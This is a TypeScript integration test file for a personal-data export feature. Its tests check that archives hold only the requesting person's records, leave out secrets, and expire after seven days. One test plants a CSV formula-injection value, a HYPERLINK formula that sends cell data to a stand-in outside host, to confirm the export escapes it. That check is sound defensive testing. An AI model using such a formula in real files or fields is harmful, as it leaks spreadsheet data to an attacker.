import { randomUUID } from 'node:crypto';
import { buffer } from 'node:stream/consumers';
import { eq, getTableName } from 'drizzle-orm';
import { beforeAll, expect, test } from 'vitest';
import { database } from '#db/client';
import { apiKeys } from '#db/schema/people';
import { personalExports } from '#db/schema/privacy';
import { models, versions } from '#db/schema/registry';
import { predictions } from '#db/schema/usage';
import { askEmailChange } from '#lib/auth/email-change/ask-email-change';
import { env } from '#lib/env';
import { newId } from '#lib/ids';
import { askExport } from '#lib/privacy/export/ask-export';
import { forgetExports } from '#lib/privacy/export/forget-exports';
import { getOwnExport } from '#lib/privacy/export/get-own-export';
import { readOwnExport } from '#lib/privacy/export/read-own-export';
import { startOwnExport } from '#lib/privacy/export/start-own-export';
import { writeExport } from '#lib/privacy/export/write-export';
import { heldAboutAPerson } from '#lib/privacy/held-about-a-person';
import { storage } from '#lib/storage/storage';
import { ctxOf, goodPassword, makePerson } from '#tests/integration/auth/people';
import { type Filled, fillPerson } from '#tests/integration/privacy/fill-person';
import { fillRow } from '#tests/integration/privacy/fill-row';
import { readZip } from '#tests/integration/privacy/read-zip';
import { filesStored } from '#tests/integration/privacy/search-everything';

const marker = 'QzExportQz';
const { db } = database();
const system = ctxOf({ kind: 'system' });
let ada: Filled;
let bob: Filled;
beforeAll(async () => {
  ada = await fillPerson(marker);
  bob = await fillPerson('QzSomebodyElseQz');
  await db.delete(personalExports);
});

async function archiveOf(id: string): Promise<Record<string, string>> {
  await writeExport(system, { id });
  const [row] = await db.select().from(personalExports).where(eq(personalExports.id, id));
  expect(row).toMatchObject({ status: 'ready' });
  return readZip(await buffer(await storage().open(row!.sha256!)));
}

test('the archive has each table as JSON and CSV, and every file, of that person alone', async () => {
  const { id } = await startOwnExport(ada.ctx);
  const files = await archiveOf(id);
  for (const { table } of heldAboutAPerson) {
    const name = getTableName(table);
    const rows: unknown[] = JSON.parse(files[`data/${name}.json`]!);
    expect(rows.length, name).toBeGreaterThan(0);
    expect(files[`data/${name}.csv`]!.split('\n').length, name).toBeGreaterThan(rows.length);
  }
  expect(files['README.txt']).toContain('predictions: ');
  expect(JSON.parse(files['data/users.json']!)).toMatchObject([{ id: ada.id, email: ada.email }]);
  expect(JSON.parse(files['data/predictions.json']!)).toMatchObject([{ inputs: { said: marker } }]);
  const contents = Object.entries(files).filter(([name]) => name.startsWith('files/'));
  expect(contents.map(([, content]) => content).sort()).toEqual(
    [
      'artifact',
      'asset',
      'asynchronous call',
      'batch input',
      'batch output',
      'data set',
      'graph',
      'kept file',
      'package',
    ]
      .map((of) => `${marker} in ${of}`)
      .sort(),
  );
  expect(JSON.stringify(files)).not.toContain('QzSomebodyElseQz');
  expect(JSON.stringify(files)).not.toContain(bob.id);
});

test('a call says which model and version it was, whoever owns that, in JSON and CSV', async () => {
  const called = { modelId: newId('model'), versionId: newId('version') };
  await fillRow(models, 'called', { id: called.modelId, slug: 'called-model', ownerId: bob.id, deletedAt: null });
  await fillRow(versions, 'called', { id: called.versionId, modelId: called.modelId, createdBy: bob.id, number: 7 });
  const own = newId('prediction');
  await fillRow(predictions, 'called', { ...called, id: own, userId: ada.id, subject: 'patient', seq: undefined });
  const { id } = await startOwnExport(ada.ctx);
  const files = await archiveOf(id);
  const rows: { id: string }[] = JSON.parse(files['data/predictions.json']!);
  expect(rows.find((row) => row.id === own)).toMatchObject({ model_slug: 'called-model', version_number: 7 });
  const [head, ...lines] = files['data/predictions.csv']!.split('\n');
  expect(head?.trim()).toMatch(/,model_slug,version_number$/);
  expect(lines.find((line) => line.includes(own))?.trim()).toMatch(/,called-model,7$/);
  for (const name of ['failed_calls', 'async_predictions', 'batch_jobs']) {
    expect(JSON.parse(files[`data/${name}.json`]!), name).toMatchObject([{ model_slug: marker.toLowerCase() }]);
  }
  const aboutThem = await askExport({ db, requestId: 'req_1' }, { userId: ada.id, subject: 'patient' });
  const theirs = await archiveOf(aboutThem.id);
  expect(JSON.parse(theirs['data/predictions.json']!)).toMatchObject([{ id: own, model_slug: 'called-model' }]);
  await db.delete(predictions).where(eq(predictions.id, own));
});

test('a table computes nothing of what somebody called a thing', async () => {
  const name = '=HYPERLINK("https://elsewhere.example?"&A1)';
  await db.update(apiKeys).set({ name }).where(eq(apiKeys.userId, ada.id));
  const { id } = await startOwnExport(ada.ctx);
  const files = await archiveOf(id);
  expect(JSON.parse(files['data/api_keys.json']!)).toMatchObject([{ name }]);
  expect(files['data/api_keys.csv']).toContain(`"'=HYPERLINK(`);
});

test('no secret and no hash of one is in the archive', async () => {
  const { id } = await startOwnExport(ada.ctx);
  const files = await archiveOf(id);
  const { 'README.txt': _, ...data } = files;
  const all = JSON.stringify(data);
  expect(Object.keys(files).filter((name) => name.includes('personal_exports/'))).toEqual([]);
  expect(all).not.toContain('$argon2');
  expect(all).not.toContain(`${marker} sealed`);
  expect(all).not.toMatch(/secret\b|password_hash|totp_last_step/);
  for (const table of ['api_keys', 'recovery_codes', 'refresh_tokens', 'one_time_links']) {
    expect(Object.keys(JSON.parse(files[`data/${table}.json`]!)[0]), table).not.toContain('hash');
  }
});

test('one archive is made at a time, the one that is there is given again, and a new one on request', async () => {
  const first = await startOwnExport(bob.ctx);
  const [again, read] = [await startOwnExport(bob.ctx), await getOwnExport(bob.ctx)];
  expect([again.id, read.id]).toEqual([first.id, first.id]);
  await writeExport(system, { id: first.id });
  expect(await getOwnExport(bob.ctx)).toMatchObject({ id: first.id, status: 'ready' });
  expect((await startOwnExport(bob.ctx)).id).not.toBe(first.id);
});

test('after seven days the archive is gone, file and row', async () => {
  const { sha256 } = (await db.select().from(personalExports).where(eq(personalExports.status, 'ready')))[0]!;
  expect((await filesStored()).some((path) => path.endsWith(sha256!))).toBe(true);
  await forgetExports(db, new Date(Date.now() + 6 * 86_400_000));
  expect((await filesStored()).some((path) => path.endsWith(sha256!))).toBe(true);
  await forgetExports(db, new Date(Date.now() + 8 * 86_400_000));
  expect((await filesStored()).some((path) => path.endsWith(sha256!))).toBe(false);
  expect(await readOwnExport(ada.ctx)).toBeNull();
});

test('the archive does not tell whether an e-mail that its person wishes for has an account', async () => {
  Object.assign(env, { SMTP_URL: 'smtp://127.0.0.1:1', PUBLIC_URL: 'https://bellwether.example' });
  const taken = await makePerson();
  const told = [taken.email, `${randomUUID()}@example.org`].map(async (email) => {
    const { ctx } = await makePerson();
    await askEmailChange(ctx, { email, currentPassword: goodPassword });
    const files = await archiveOf((await startOwnExport(ctx)).id);
    return { links: files['data/one_time_links.json'], mail: files['data/mail_messages.json'] };
  });
  const [ofTaken, ofFree] = await Promise.all(told);
  Object.assign(env, { SMTP_URL: undefined, PUBLIC_URL: undefined });
  expect(ofFree).toEqual(ofTaken);
});
